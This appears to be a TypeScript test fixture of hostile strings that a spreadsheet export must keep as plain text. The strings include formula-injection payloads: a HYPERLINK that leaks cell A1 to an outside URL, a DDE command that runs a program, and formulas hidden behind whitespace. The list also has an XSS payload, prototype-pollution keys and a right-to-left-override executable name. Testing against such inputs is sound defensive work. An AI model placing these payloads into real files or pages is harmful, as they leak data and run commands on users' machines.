// Texts that somebody may leave in a workbook, by mischief or by accident; each of them has to stay the text that it is.

export const formulas = [
  '=HYPERLINK("https://example.org/?"&A1,"click")',
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "'=1+1",
  "=cmd|' /C calc'!A0",
] as const;

/** Excel would read these as a date, a truth value, a number, an error. */
export const readAsSomethingElse = [
  "1-2",
  "2024-01-31",
  "TRUE",
  "false",
  "ＴＲＵＥ",
  "4",
  "４",
  "1e5",
  "50%",
  "#N/A",
  "NaN",
  "Infinity",
] as const;

export const prototypeKeys = ["__proto__", "constructor", "toString", "hasOwnProperty", "valueOf"] as const;

export const oddCharacters = [
  "\u202Egnp.exe",
  "مجموعة الميناء",
  "\u0000nul",
  "bell\u0007",
  "\uFEFFmark",
  "zero\u200Bwidth",
  "half \uD83C pair",
  "\uDFED tail first",
  "🏭".repeat(20),
  "$t(pane.title)",
  "{{cluster}}",
  "$& $1 $$",
  "<img src=x onerror=alert(1)>",
  "a'b",
] as const;

export const hostileTexts: readonly string[] = [
  ...formulas,
  ...readAsSomethingElse,
  ...prototypeKeys,
  ...oddCharacters,
];
